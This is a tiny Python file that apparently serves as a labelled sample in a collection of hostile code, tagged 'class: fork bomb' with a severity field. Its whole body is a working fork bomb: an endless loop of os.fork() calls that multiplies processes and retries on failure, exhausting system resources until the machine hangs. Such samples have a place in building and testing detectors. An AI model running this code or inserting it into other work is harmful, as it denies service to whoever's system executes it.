# class: fork bomb; possible: low medium high
import os, time
while True:
    try:
        if os.fork() == 0: continue
    except OSError: time.sleep(0.001)
